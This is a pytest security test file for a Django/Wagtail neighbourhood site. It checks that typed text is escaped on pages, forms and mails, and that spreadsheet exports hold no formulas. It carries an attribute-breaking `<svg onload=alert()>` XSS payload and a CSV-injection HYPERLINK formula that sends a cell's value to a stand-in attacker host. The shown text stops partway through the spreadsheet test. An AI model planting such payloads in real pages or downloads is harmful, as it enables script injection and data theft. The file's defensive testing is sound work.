"""Script typed into any text field stays text wherever Buurtwijs shows it.

The stored test builds one of each object through the services and factories, then
writes a payload into every CharField and TextField of every model of Buurtwijs's
apps with ``QuerySet.update()`` (past every form, as an import or the shell could),
each field with its own number, and visits every page that shows those objects:
public pages as a visitor and a member, the owner's pages as the owner, and the
editors' screens under /beheer/ (our own views, and the snippet list, edit and
inspect views of our models) as an editor. No page may contain the payload as
markup; every field must turn up escaped on at least one page, unless NOT_SHOWN says
where it goes instead (and then it must not turn up).

Fields get no payload when it could not be stored or is never typed:

- slugs, e-mail addresses and URLs: held by every form to a safe alphabet, an
  address, or an http(s) link (test_xss.py checks that an initiative's website,
  which imports write too, never becomes a ``javascript:`` link);
- fields with choices: a fixed key, shown as its label;
- rich text: HTML by design, written by Wagtail's editor, which keeps only the
  elements it knows (checked once below through the editor's own converter);
- fields that are not editable: sort keys, hashed network addresses, nonces, and the
  comment's HTML made by the sanitiser (checked below through the comment form);
- those in SKIPPED: codes, keys, tokens and language codes set by the code, and the
  search index's copies of the fields above (rebuilt and shown by /zoeken/).

The other tests send payloads through the forms (reflected in query strings and in
forms shown again with errors), check the mails (an HTML part escapes, the text part
is text) and check that spreadsheet downloads never hand over a formula.
"""

import csv
import io
import json
import re
import time
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from django.apps import apps
from django.core import mail
from django.core.cache import cache
from django.db import models
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader
from taggit.models import Tag
from wagtail.fields import RichTextField
from wagtail.models import Page
from wagtail.snippets.models import get_snippet_models

from buurtwijs.accounts.models import Consent, Profile, User
from buurtwijs.agenda import services as agenda_services
from buurtwijs.agenda.models import AgendaItem, AnalysisRun
from buurtwijs.agenda.tests.factories import make_call_with_questions
from buurtwijs.articles import services as article_services
from buurtwijs.articles.models import ArticlePage, Comment
from buurtwijs.articles.tests.factories import make_article
from buurtwijs.calls.services import learning_question_create
from buurtwijs.calls.tests.factories import make_call, response_data
from buurtwijs.core.antispam import form_started_token
from buurtwijs.core.models import Municipality, Province, Theme
from buurtwijs.directory import services as directory_services
from buurtwijs.directory.models import Initiative
from buurtwijs.directory.tests.factories import InitiativeFactory, PartnerFactory
from buurtwijs.events import services as event_services
from buurtwijs.events.models import Registration
from buurtwijs.events.tests.factories import make_event, visitor_form
from buurtwijs.knowledge import services as knowledge_services
from buurtwijs.knowledge.models import PublicationPage
from buurtwijs.knowledge.tests.cases_support import make_case
from buurtwijs.knowledge.tests.documents_support import pdf_bytes, upload
from buurtwijs.matching import services as matching_services
from buurtwijs.matching.selectors import match_indexes_forget
from buurtwijs.networks import services as network_services
from buurtwijs.networks.tests.factories import join, make_network
from buurtwijs.newsletter import services as newsletter_services
from buurtwijs.newsletter.models import Delivery
from buurtwijs.newsletter.tests.support import form_data, make_subscriber
from buurtwijs.search.services import search_index_rebuild
from conftest import TaskRunner

THEME = "ontmoeting-en-eenzaamheid"
PLACE = "GM0344"
# A word every payload carries, so that search and "who knows what" find the rows.
PROBE = "xssprobe"
RAW = "<svg onload"


def payload(number: int) -> str:
    """Breaks out of an attribute and opens an element, if anything lets it.

    Words on both sides keep it whole in search snippets, which start at a word.
    """
    return f"{PROBE}\"'><svg onload=alert({number})> {PROBE}"


# The payload as text: HTML-escaped, or escaped for JavaScript or JSON.
ESCAPED = re.compile(
    r"(?:&lt;|\\u003C)svg onload(?:=|\\u003D)alert\((\d+)\)(?:&gt;|\\u003E)"
)


def shown_escaped(html: str) -> set[int]:
    """The numbers of the payloads in a page as text."""
    return {int(number) for number in ESCAPED.findall(html)}


# --- Which fields get a payload -------------------------------------------------

SKIPPED: dict[str, str] = {
    "accounts.User.password": "a password hash",
    "accounts.User.username": "letters, digits and @.+-_ only (validator)",
    "core.Province.code": "CBS code",
    "core.Municipality.code": "CBS code",
    "calls.LearningQuestion.cluster_key": "key made by the analysis",
    "agenda.AgendaQuestion.engine_key": "key made by the analysis",
    "agenda.AgendaQuestion.cluster_key": "key made by the analysis",
    "agenda.AgendaQuestion.top_theme": "theme slug",
    "agenda.AgendaCluster.key": "key made by the analysis, part of addresses",
    "agenda.AgendaCluster.theme": "theme slug",
    "agenda.CurationDecision.cluster_key": "key made by the analysis",
    "agenda.CurationDecision.target_key": "key made by the analysis",
    "agenda.AgendaItem.cluster_key": "key made by the analysis",
    "agenda.AnalysisRun.stage": "name of a step, set by the code",
    "matching.IndexVersion.kind": "constant set by the code",
    "matching.IndexVersion.token": "random token",
    "matching.QuestionMatch.best_kind": "constant set by the code",
    "newsletter.Subscriber.token": "random token",
    "events.Registration.language": "language code set by the site",
    "matching.ContactRequest.language": "language code set by the site",
    "articles.Comment.language": "language code set by the site",
    "newsletter.Subscriber.language": "language code set by the site",
    "search.SearchEntry.object_id": "primary key",
    "search.SearchEntry.url": "address made by the site",
    "search.SearchEntry.themes": "theme slugs",
    "search.SearchEntry.municipality_code": "CBS code",
    "search.SearchEntry.province_code": "CBS code",
    "search.SearchEntry.title": "copy of the fields above, rebuilt before /zoeken/",
    "search.SearchText.summary": "copy of the fields above, rebuilt before /zoeken/",
    "search.SearchText.body": "copy of the fields above, rebuilt before /zoeken/",
}

# Text of other packages that our pages show.
EXTRA_FIELDS: dict[str, tuple[type[models.Model], str]] = {
    "wagtailcore.Page.title": (Page, "title"),
    "taggit.Tag.name": (Tag, "name"),
}

# Covered fields no page shows, and where they go instead.
NOT_SHOWN: dict[str, str] = {
    "accounts.Consent.text": "proof of consent; only in the person's data download",
    "agenda.CurationDecision.label": "copied into the cluster's label (shown)",
    "calls.Answer.question_label": "a copy of the question, for the copy mail",
    "calls.Answer.text": "read by the analysis and in the copy mail (text); the "
    "learning questions made from it are shown",
    "cms.HomePage.intro": "not used by the home page's template",
    "core.Municipality.name": "the official name, for typed names; pages show "
    "display_name",
    "directory.ContactMessage.body": "relayed by e-mail (see the mail test)",
    "directory.ContactMessage.sender_name": "relayed by e-mail (see the mail test)",
    "events.Registration.consent_text": "proof of consent; the data download",
    "knowledge.Document.content_type": "found by the upload check; the download's "
    "type, always as an attachment",
    "matching.ContactRequest.body": "relayed by e-mail (see the mail test)",
    "matching.ContactRequest.sender_name": "relayed by e-mail (see the mail test)",
    "newsletter.Delivery.error": "the mail server's answer; counted, not shown",
    "newsletter.Subscriber.consent_text": "proof of consent; the data download",
    "newsletter.Subscriber.name": "in the mails only (see the mail test)",
}


def field_label(field: models.Field) -> str:
    return f"{field.model._meta.label}.{field.name}"


def skip_reason(field: models.Field) -> str:
    """Why a field gets no payload, or "" when it gets one."""
    label = field_label(field)
    if label in SKIPPED:
        return SKIPPED[label]
    if isinstance(field, models.SlugField):
        return "slug"
    if isinstance(field, models.EmailField):
        return "e-mail address"
    if isinstance(field, models.URLField):
        return "URL"
    if isinstance(field, RichTextField):
        return "rich text"
    if field.choices:
        return "choices"
    if not field.editable:
        return "not editable"
    return ""


def text_fields() -> list[models.Field]:
    """Every CharField and TextField declared by a model of Buurtwijs."""
    found = []
    for model in apps.get_models():
        if model.__module__.startswith("buurtwijs."):
            for field in model._meta.get_fields(include_parents=False):
                if isinstance(field, models.CharField | models.TextField):
                    found.append(field)
    return sorted(found, key=field_label)


def covered_fields() -> dict[str, tuple[type[models.Model], str]]:
    covered = {
        field_label(field): (field.model, field.name)
        for field in text_fields()
        if not skip_reason(field)
    }
    return {**covered, **EXTRA_FIELDS}


def test_every_text_field_gets_a_payload_or_a_reason() -> None:
    labels = {field_label(field) for field in text_fields()}
    assert not set(SKIPPED) - labels, "SKIPPED names fields that no longer exist"
    assert not set(NOT_SHOWN) - set(covered_fields()), "NOT_SHOWN: not covered"
    # The rules skip only what a payload cannot be in; a new free-text field is
    # covered without anyone adding it here.
    for field in text_fields():
        reason = skip_reason(field)
        if reason == "not editable":
            assert field.name in {
                "sort_name",
                "sort_title",
                "client_key",
                "nonce",
                "voter_key",
                "body_html",
            }, field_label(field)
    assert "accounts.Profile.expertise" in covered_fields()


# --- One of each object ---------------------------------------------------------


@pytest.fixture
def documents_root(settings: Any, tmp_path: Any) -> Any:
    settings.DOCUMENTS_ROOT = tmp_path / "documents"
    return settings.DOCUMENTS_ROOT


@pytest.fixture
def scene(
    member: User,
    owner: User,
    editor: User,
    administrator: User,
    tasks: TaskRunner,
    documents_root: Any,
) -> dict[str, Any]:
    """One of each object of Buurtwijs, made as the site makes them."""
    cache.clear()
    place = Municipality.objects.get(code=PLACE)
    themes = list(Theme.objects.filter(slug=THEME))
    Profile.objects.filter(user=owner).update(
        is_public=True, organisation="Buurtteam", expertise="Eenzaamheid"
    )
    profile = Profile.objects.get(user=owner)
    Profile.objects.filter(pk=profile.pk).update(municipality=place)
    profile.themes.set(themes)
    Consent.objects.create(user=owner, purpose="signup", text="Ik ga akkoord.")
    # directory
    initiative = InitiativeFactory.create(
        owner=owner, description="Over ons", neighbourhood="Oog in Al"
    )
    initiative.themes.set(themes)
    PartnerFactory.create(initiative=initiative, contribution="Geld")
    InitiativeFactory.create(status=Initiative.Status.PENDING, owner=member)
    directory_services.claim_submit(
        initiative=initiative, user=member, message="Ik ben de penningmeester."
    )
    directory_services.contact_relay(
        initiative=initiative,
        sender_name="Fatima",
        sender_email="fatima@voorbeeld.nl",
        body="Mogen wij langskomen?",
        client_key="k",
    )
    # knowledge
    case = make_case(
        "Buurtcoöperatie Oog in Al",
        themes=[THEME],
        partners=[("Gemeente Utrecht", "municipality", "Minder zorgkosten")],
        initiative=initiative,
        summary="Samen het buurthuis",
        source_label="Boek",
    )
    publication = PublicationPage(
        title="Plekken van hoop", slug="plekken", authors="A. B.", publisher="PSW"
    )
    Page.objects.get(slug="publicaties").add_child(instance=publication)
    document = knowledge_services.document_upload(
        user=owner,
        title="Handreiking buurtgesprek",
        kind="handreiking",
        file=upload("handreiking.pdf", pdf_bytes("Handreiking", "Zo doe je dat.")),
        description="Zo doe je dat",
        themes=themes,
        municipality=place,
        licence="CC BY 4.0",
    )
    knowledge_services.document_moderate(document=document, editor=editor, approve=True)
    knowledge_services.document_upload(
        user=member,
        title="Ter beoordeling",
        kind="handreiking",
        file=upload("plan.pdf", pdf_bytes("Plan", "Ons plan.")),
    )
    # events
    event = make_event(audience="Bewoners")
    for name, email, user in (
        ("Fatima", "fatima@voorbeeld.nl", None),
        ("Anouk", member.email, member),
    ):
        event_services.registration_create(
            event=event, name=name, email=email, language="nl", user=user
        )
    # articles
    article = make_article(
        "Nieuws uit de wijk",
        themes=[THEME],
        tags=["buurt"],
        author=profile,
        source_label="Bron",
    )
    make_article("Van de redactie", byline="Redactie")
    comment = article_services.comment_submit(
        article=article, body="Mooi verhaal!", user=member, name="Anouk"
    )
    article_services.comment_submit(
        article=article,
        body="Wanneer is de volgende?",
        name="Bezoeker",
        email="bezoeker@voorbeeld.nl",
    )
    article_services.comment_report(comment=comment, user=owner)
    # calls, learning questions and the agenda
    call, _questions = make_call_with_questions()
    Client().post(f"/oproepen/{call.slug}/", response_data(call))
    question = learning_question_create(
        author=member, text="Hoe vinden we vrijwilligers?", municipality=place
    )
    agenda = agenda_services.agenda_get_or_create(call=call)
    agenda_services.analysis_request(agenda=agenda, user=editor)
    tasks.run()
    agenda.refresh_from_db()
    agenda_services.agenda_update(agenda=agenda, title="Leeragenda", commentary="Ja")
    cluster = agenda.clusters.order_by("pk").first()
    assert cluster is not None
    agenda_services.cluster_rename(
        agenda=agenda, key=cluster.key, label="Eenzaamheid", editor=editor
    )
    item = agenda_services.agenda_item_adopt(agenda=agenda, cluster_key=cluster.key)
    agenda_services.agenda_item_update(
        item=item,
        owner="Team Sociaal",
        status=AgendaItem.Status.IN_PROGRESS,
        description="Wij pakken dit op.",
        cases=[case.pk],
        documents=[document.pk],
        events=[event.pk],
        articles=[article.pk],
    )
    agenda_services.agenda_set_published(agenda=agenda, published=True)
    # The dashboard shows the last run's error when it failed.
    AnalysisRun.objects.create(
        agenda=agenda, status=AnalysisRun.Status.FAILED, error="Geheugen vol"
    )
    # who knows what
    matching_services.contact_request_send(
        profile=profile,
        sender=None,
        sender_name="Fatima",
        sender_email="fatima@voorbeeld.nl",
        body="Kun je me helpen met eenzaamheid in de wijk?",
        client_key="k",
        language="nl",
    )
    # learning networks
    network = make_network(themes=[THEME])
    for person in (member, owner, editor, administrator):
        join(network, person)
    thread = network_services.thread_create(
        network=network, author=owner, title="Ledenwerving", body="Hoe doen jullie dat?"
    )
    network_services.reply_create(thread=thread, author=member, body="Met een feest.")
    # newsletter
    subscriber = make_subscriber("lotte@voorbeeld.nl", themes=themes)
    issue = newsletter_services.issue_save(
        issue=None,
        subject="Nieuws in juni",
        intro="Veel nieuws",
        subject_en="News in June",
        intro_en="Much news",
        themes=[],
        pages=[article, event, case],
        user=editor,
    )
    Delivery.objects.create(
        issue=issue, subscriber=subscriber, status=Delivery.Status.FAILED, error="550"
    )
    tasks.run()
    return {
        "profile": profile,
        "initiative": initiative,
        "case": case,
        "publication": publication,
        "document": document,
        "event": event,
        "article": article,
        "call": call,
        "question": question,
        "agenda": agenda,
        "item": item,
        "cluster_key": cluster.key,
        "network": network,
        "thread": thread,
        "issue": issue,
        "subscriber": subscriber,
    }


def write_text(value: Callable[[int], str] | str) -> dict[str, int]:
    """Every covered field of every row gets value(number) (or the one value).

    Returns each field's number.
    """
    numbers = {}
    for number, (label, (model, name)) in enumerate(
        sorted(covered_fields().items()), start=1
    ):
        numbers[label] = number
        rows = model._default_manager.all()
        # Reference data holds hundreds of rows: only those the scene uses.
        if model is Province:
            rows = rows.filter(municipalities__code=PLACE)
        elif model is Municipality:
            rows = rows.filter(code=PLACE)
        elif model is Theme:
            rows = rows.filter(slug=THEME)
        elif model is Page:
            rows = rows.filter(depth__gt=1)
        model._default_manager.filter(pk__in=rows.values("pk")).update(
            **{name: value if isinstance(value, str) else value(number)}
        )
    return numbers


# --- Every page that shows them -------------------------------------------------

VISITOR, MEMBER, OWNER, EDITOR = "visitor", "member", "owner", "editor"
PUBLIC = (VISITOR, MEMBER)


def pages(s: dict[str, Any], editor: User) -> list[tuple[str, tuple[str, ...]]]:
    """Each page showing the scene's objects, with who looks at it."""
    initiative, network, agenda = s["initiative"], s["network"], s["agenda"]
    visitor_registration = Registration.objects.filter(user=None).earliest("pk")
    visitor_comment = Comment.objects.get(user=None)
    confirm = newsletter_services.confirmation_token(s["subscriber"])
    public = [
        "/",
        "/initiatieven/",
        f"/initiatieven/?thema={THEME}&provincie=PV26",
        f"/initiatieven/{initiative.slug}/",
        f"/initiatieven/{initiative.slug}/claimen/",
        f"/initiatieven/{initiative.slug}/contact/",
        "/initiatieven/aanmelden/",
        "/mensen/",
        f"/mensen/{s['profile'].slug}/",
        "/dekking/",
        f"/zoeken/?q={PROBE}",
        "/kennisbank/",
        f"/kennisbank/{s['document'].pk}/",
        "/kennisbank/delen/",
        "/oproepen/",
        f"/oproepen/{s['call'].slug}/",
        f"/oproepen/{s['call'].slug}/bedankt/",
        "/leervragen/",
        "/leervragen/nieuw/",
        f"/leervragen/{s['question'].pk}/",
        "/leeragenda/",
        f"/leeragenda/{agenda.slug}/",
        f"/leeragenda/{agenda.slug}/punt/{s['item'].pk}/",
        f"/wie-weet-wat/?q={PROBE}",
        f"/wie-weet-wat/contact/{s['profile'].slug}/",
        "/leernetwerken/",
        "/leernetwerken/instellingen/",
        f"/leernetwerken/{network.slug}/",
        f"/leernetwerken/{network.slug}/leden/",
        f"/leernetwerken/{network.slug}/gesprekken/nieuw/",
        f"/leernetwerken/{network.slug}/gesprekken/{s['thread'].pk}/",
        "/nieuwsbrief/",
        f"/nieuwsbrief/bevestigen/{confirm}/",
        f"/nieuwsbrief/afmelden/{s['subscriber'].token}/",
        f"/evenementen/{s['event'].pk}/aangemeld/",
        f"/evenementen/afmelden/{event_services.cancel_token(visitor_registration)}/",
        f"/reacties/artikel/{s['article'].pk}/controleer-je-mail/",
        "/reacties/bevestigen/"
        f"{article_services.comment_confirm_token(visitor_comment)}/",
        "/nieuws/",
        f"/nieuws/?thema={THEME}",
        "/nieuws/?tag=buurt",
        s["article"].url,
        "/praktijkvoorbeelden/",
        s["case"].url,
        f"/praktijkvoorbeelden/vergelijken/?case={s['case'].pk}&case={s['case'].pk}",
        "/evenementen/",
        s["event"].url,
        "/publicaties/",
        s["publication"].url,
        "/privacy/",
    ]
    owners = [
        "/mijn-profiel/",
        "/mijn-profiel/verwijderen/",
        "/initiatieven/mijn/",
        f"/initiatieven/{initiative.slug}/bewerken/",
        "/kennisbank/mijn-documenten/",
    ]
    issue = f"/beheer/nieuwsbrief/{s['issue'].pk}"
    editors = [
        "/beheer/",
        "/beheer/moderatie/",
        "/beheer/directory-import/",
        "/beheer/kennisbank-moderatie/",
        "/beheer/events/registrations/",
        f"/beheer/events/{s['event'].pk}/registrations/",
        "/beheer/leeragenda/",
        f"/beheer/leeragenda/{agenda.pk}/",
        f"/beheer/leeragenda/{agenda.pk}/cluster/{s['cluster_key']}/",
        f"/beheer/leeragenda/{agenda.pk}/punt/{s['item'].pk}/",
        "/beheer/kennislacunes/",
        "/beheer/reacties/",
        "/beheer/nieuwsbrief/",
        f"{issue}/",
        f"{issue}/bewerken/",
        f"{issue}/voorbeeld/",
        f"{issue}/voorbeeld.html",
        f"{issue}/voorbeeld/?taal=en",
        *snippet_pages(editor),
    ]
    return [
        *((path, PUBLIC) for path in public),
        *((path, (OWNER,)) for path in owners),
        *((path, (EDITOR,)) for path in editors),
    ]


def snippet_pages(editor: User) -> Iterator[str]:
    """Wagtail's list, edit and inspect views of our snippets, for a row with text."""
    for model in get_snippet_models():
        if not model.__module__.startswith("buurtwijs."):
            continue
        name = f"wagtailsnippets_{model._meta.app_label}_{model._meta.model_name}"
        yield reverse(f"{name}:list")
        rows = model._default_manager.order_by("pk")
        if model is Theme:
            rows = rows.filter(slug=THEME)
        row = rows.first()
        viewset = model.snippet_viewset
        if row is not None:
            if viewset.permission_policy.user_has_permission(editor, "change"):
                yield reverse(f"{name}:edit", args=[row.pk])
            if viewset.inspect_view_enabled:
                yield reverse(f"{name}:inspect", args=[row.pk])


def test_every_text_field_is_escaped_wherever_it_is_shown(
    scene: dict[str, Any],
    member: User,
    owner: User,
    editor: User,
    client_for: Any,
) -> None:
    visitor = Client()
    # (the thank-you page is for whoever just responded)
    call = scene["call"]
    visitor.post(f"/oproepen/{call.slug}/", response_data(call))
    visitor.post(
        f"/evenementen/{scene['event'].pk}/aanmelden/",
        visitor_form(email="lotte@voorbeeld.nl"),
    )
    # given every text field holds a payload, and the indexes have read them
    numbers = write_text(payload)
    search_index_rebuild()
    match_indexes_forget()
    clients = {
        VISITOR: visitor,
        MEMBER: client_for(member),
        OWNER: client_for(owner),
        EDITOR: client_for(editor),
    }
    # when everyone looks at every page
    seen: dict[str, set[str]] = {}
    for path, roles in pages(scene, editor):
        shown = False
        for role in roles:
            response = clients[role].get(path)
            assert response.status_code < 500, (path, role)
            if response.status_code != 200:
                continue
            shown = True
            html = response.content.decode()
            # then no payload is markup
            assert RAW not in html, f"{path} as {role}: {around(html, RAW)}"
            found = shown_escaped(html)
            for label, number in numbers.items():
                if number in found:
                    seen.setdefault(label, set()).add(path)
        assert shown, f"nobody could see {path}"
    # and every field is on a page, as text
    assert sorted(set(numbers) - set(seen) - set(NOT_SHOWN)) == []
    assert sorted(set(NOT_SHOWN) & set(seen)) == []
    for label, paths in shown_on(scene).items():
        for path in paths:
            assert path in seen.get(label, set()), (label, path)
    # The agenda's PDF report is made from HTML: the payload is printed as text.
    response = Client().get(f"/leeragenda/{scene['agenda'].slug}/leeragenda.pdf")
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages
    )
    title = numbers["agenda.LearningAgenda.title"]
    assert f"<svg onload=alert({title})>" in " ".join(text.split())


def shown_on(s: dict[str, Any]) -> dict[str, tuple[str, ...]]:
    """Where what people type must be readable, as text."""
    person = f"/mensen/{s['profile'].slug}/"
    agenda, item = s["agenda"], s["item"]
    cluster = f"/beheer/leeragenda/{agenda.pk}/cluster/{s['cluster_key']}/"
    return {
        "accounts.Profile.name": (person, "/mensen/"),
        "accounts.Profile.organisation": (person,),
        "accounts.Profile.expertise": (person,),
        "articles.Comment.name": (s["article"].url, "/beheer/reacties/"),
        "articles.Comment.body": ("/beheer/reacties/",),
        "calls.LearningQuestion.text": (cluster, f"/leervragen/{s['question'].pk}/"),
        "agenda.AgendaCluster.label": (f"/leeragenda/{agenda.slug}/", cluster),
        "agenda.AgendaItem.title": (f"/leeragenda/{agenda.slug}/punt/{item.pk}/",),
        "agenda.AgendaItem.owner": (f"/beheer/leeragenda/{agenda.pk}/",),
        "directory.InitiativeClaim.message": ("/beheer/moderatie/",),
        "directory.Initiative.description": (f"/initiatieven/{s['initiative'].slug}/",),
        "events.Registration.name": (f"/beheer/events/{s['event'].pk}/registrations/",),
        "knowledge.Document.title": (f"/kennisbank/{s['document'].pk}/",),
        "knowledge.Document.description": (f"/kennisbank/{s['document'].pk}/",),
        "networks.LearningNetwork.name": (f"/leernetwerken/{s['network'].slug}/",),
        "networks.LearningNetwork.description": (
            f"/leernetwerken/{s['network'].slug}/",
        ),
        "networks.Reply.body": (
            f"/leernetwerken/{s['network'].slug}/gesprekken/{s['thread'].pk}/",
        ),
        "newsletter.Issue.intro": (f"/beheer/nieuwsbrief/{s['issue'].pk}/voorbeeld/",),
        "wagtailcore.Page.title": (s["article"].url, s["event"].url),
    }


def around(html: str, needle: str) -> str:
    at = html.index(needle)
    return html[max(0, at - 200) : at + 60]


# --- Reflected: what is in the address ------------------------------------------

# Every query parameter a view of Buurtwijs reads, and a few it does not.
PARAMETERS = (
    "q",
    "pagina",
    "taal",
    "toon",
    "thema",
    "tag",
    "gemeente",
    "provincie",
    "soort",
    "sorteer",
    "oproep",
    "partner",
    "case",
    "type",
    "status",
    "next",
)


def test_payloads_in_the_address_are_escaped_on_every_list(
    db: None, editor: User, client_for: Any
) -> None:
    query = urlencode({name: payload(0) for name in PARAMETERS})
    lists = [
        "/",
        "/initiatieven/",
        "/mensen/",
        "/dekking/",
        "/zoeken/",
        "/kennisbank/",
        "/oproepen/",
        "/leervragen/",
        "/leeragenda/",
        "/wie-weet-wat/",
        "/leernetwerken/",
        "/nieuws/",
        "/praktijkvoorbeelden/",
        "/praktijkvoorbeelden/vergelijken/",
        "/evenementen/",
        "/nieuwsbrief/",
        "/pagina-die-niet-bestaat/",
    ]
    admin = [
        "/beheer/moderatie/",
        "/beheer/kennisbank-moderatie/",
        "/beheer/reacties/",
        "/beheer/kennislacunes/",
        "/beheer/leeragenda/",
        "/beheer/nieuwsbrief/",
        "/beheer/events/registrations/",
        *(path for path in snippet_pages(editor) if "/edit/" not in path),
    ]
    reflected = set()
    for client, paths in ((Client(), lists), (client_for(editor), admin)):
        for path in paths:
            response = client.get(f"{path}?{query}")
            assert response.status_code in (200, 404), path
            html = response.content.decode()
            assert RAW not in html, f"{path}: {around(html, RAW)}"
            if shown_escaped(html):
                reflected.add(path)
    # The search boxes show what was searched for, as text.
    assert {"/zoeken/", "/initiatieven/", "/mensen/", "/wie-weet-wat/"} <= reflected


# --- Reflected: what a form shows again -----------------------------------------


def test_forms_show_what_was_typed_again_as_text(
    member: User,
    owner: User,
    editor: User,
    client_for: Any,
    documents_root: Any,
) -> None:
    # given the objects the forms belong to
    cache.clear()
    typed = payload(0)
    started = form_started_token(time.time() - 60)
    antispam = {"started": started, "website_url": ""}
    initiative = InitiativeFactory.create(owner=owner, contact_email="info@linde.nl")
    Profile.objects.filter(user=owner).update(is_public=True, expertise="Buurtbudget")
    profile = Profile.objects.get(user=owner)
    event = make_event()
    article = make_article("Nieuws uit de wijk")
    call = make_call()
    network = make_network()
    join(network, member)
    text_answers = {
        key: typed for key in response_data(call) if key.startswith("vraag_")
    }
    forms: list[tuple[User | None, str, dict[str, Any]]] = [
        (
            None,
            f"/initiatieven/{initiative.slug}/contact/",
            {"sender_name": typed, "sender_email": "geen", "body": typed, **antispam},
        ),
        (
            None,
            f"/wie-weet-wat/contact/{profile.slug}/",
            {"sender_name": typed, "sender_email": "geen", "body": typed, **antispam},
        ),
        (
            None,
            "/nieuwsbrief/",
            form_data(email="geen", name=typed),
        ),
        (
            None,
            f"/evenementen/{event.pk}/aanmelden/",
            visitor_form(name=typed, email="geen"),
        ),
        (
            None,
            f"/reacties/artikel/{article.pk}/",
            {"name": typed, "email": "geen", "body": typed, **antispam},
        ),
        (
            None,
            f"/oproepen/{call.slug}/",
            {**response_data(call), **text_answers, "consent": ""},
        ),
        (
            member,
            "/leervragen/nieuw/",
            {"text": typed, "municipality": typed},
        ),
        (
            member,
            f"/leernetwerken/{network.slug}/gesprekken/nieuw/",
            {"title": typed, "body": ""},
        ),
        (
            member,
            "/initiatieven/aanmelden/",
            {"name": typed, "summary": typed, "description": typed},
        ),
        (
            member,
            f"/initiatieven/{initiative.slug}/claimen/",
            {"message": typed * 100},
        ),
        (
            member,
            "/kennisbank/delen/",
            {"title": typed, "description": typed, "kind": "handreiking"},
        ),
        (
            owner,
            "/mijn-profiel/",
            {"name": typed, "organisation": typed, "expertise": typed, "kind": "x"},
        ),
        (
            owner,
            f"/initiatieven/{initiative.slug}/bewerken/",
            {"name": typed, "summary": typed, "contact_email": "geen"},
        ),
        (
            editor,
            "/beheer/nieuwsbrief/nieuw/",
            {"subject": typed, "intro": typed, "pages": ["999999"]},
        ),
    ]
    # when each is sent with a mistake in it, and shown again
    for user, path, data in forms:
        client = client_for(user) if user else Client()
        response = client.post(path, data)
        # then what was typed is back in the form, as text
        assert response.status_code in (200, 400), (path, response.status_code)
        html = response.content.decode()
        assert RAW not in html, f"{path}: {around(html, RAW)}"
        assert shown_escaped(html) == {0}, path


# --- Mails ------------------------------------------------------------------------


def test_mails_carry_what_people_typed_as_text(
    member: User,
    owner: User,
    editor: User,
    tasks: TaskRunner,
    documents_root: Any,
) -> None:
    """An HTML part escapes it; a text part shows it as typed (no &lt; to read)."""
    cache.clear()
    typed = payload(0)
    # given everything that mails what someone typed
    initiative = InitiativeFactory.create(owner=owner, contact_email="info@linde.nl")
    directory_services.contact_relay(
        initiative=initiative,
        sender_name=typed,
        sender_email="fatima@voorbeeld.nl",
        body=f"Hallo! {typed}",
        client_key="a",
    )
    directory_services.claim_submit(initiative=initiative, user=member, message=typed)
    Profile.objects.filter(user=owner).update(is_public=True)
    matching_services.contact_request_send(
        profile=Profile.objects.get(user=owner),
        sender=None,
        sender_name=typed,
        sender_email="fatima@voorbeeld.nl",
        body=f"Kun je me helpen met de buurt? {typed}",
        client_key="b",
        language="nl",
    )
    newsletter_services.subscription_request(
        email="lotte@voorbeeld.nl",
        name=typed,
        themes=[],
        language="nl",
        consent_text="Ja",
        client="c",
    )
    event = make_event(title=typed)
    event_services.registration_create(
        event=event, name=typed, email="fatima@voorbeeld.nl", language="nl"
    )
    article = make_article("Nieuws", slug="nieuws-1")
    article_services.comment_submit(
        article=article, body=typed, name=typed, email="bezoeker@voorbeeld.nl"
    )
    network = make_network()
    join(network, owner, notify="each")
    join(network, member)
    thread = network_services.thread_create(
        network=network, author=member, title=typed, body=typed
    )
    network_services.reply_create(thread=thread, author=member, body=typed)
    call = make_call(offer_copy=True)
    texts = {
        f"vraag_{pk}": typed
        for pk in call.questions.filter(kind="text").values_list("pk", flat=True)
    }
    Client().post(
        f"/oproepen/{call.slug}/",
        {**response_data(call), **texts, "copy_email": "fatima@voorbeeld.nl"},
    )
    document = knowledge_services.document_upload(
        user=member,
        title=typed,
        kind="handreiking",
        file=upload("plan.pdf", pdf_bytes("Plan", "Ons plan.")),
    )
    knowledge_services.document_moderate(document=document, editor=editor, approve=True)
    ArticlePage.objects.filter(pk=article.pk).update(intro=typed)
    Page.objects.filter(pk=article.pk).update(title=typed)
    issue = newsletter_services.issue_save(
        issue=None,
        subject=typed,
        intro=typed,
        subject_en="",
        intro_en="",
        themes=[],
        pages=[article, event],
        user=editor,
    )
    mail.outbox.clear()
    tasks.run()
    newsletter_services.issue_send_test(issue=issue, user=editor)
    # then every mail says it as text
    html_parts = 0
    assert len(mail.outbox) >= 9
    for message in mail.outbox:
        assert "\n" not in message.subject
        for content, kind in getattr(message, "alternatives", []):
            assert kind == "text/html"
            assert RAW not in content, message.subject
            if shown_escaped(str(content)):
                html_parts += 1
        if RAW in message.body:
            assert "&lt;" not in message.body and "&quot;" not in message.body
    # the confirmation of the newsletter greets by name, the issue shows its texts
    assert html_parts == 2


# --- Spreadsheets -----------------------------------------------------------------

# What a spreadsheet takes for the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = 'HYPERLINK("https://aanval.example/?"&A1;"klik")'


def spreadsheet_texts(content: bytes, delimiter: str | None) -> list[str]:
    """Every cell of a CSV (with this delimiter) or of every sheet of a workbook."""
    if delimiter is not None:
        text = content.decode("utf-8").removeprefix("\ufeff")
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        return [cell for row in rows for cell in row]
    cells = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {cell.coordinate}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def test_downloads_never_hand_a_spreadsheet_a_formula(
    owner: User,
    editor: User,
    client_for: Any,
    tasks: TaskRunner,
) -> None:
    # given the objects every download of typed text lists
    cache.clear()
    call, _questions = make_call_with_questions()
    agenda = agenda_services.agenda_get_or_create(call=call)
    agenda_services.analysis_request(agenda=agenda, user=editor)
    tasks.run()
    cluster = agenda.clusters.order_by("pk").first()
    assert cluster is not None
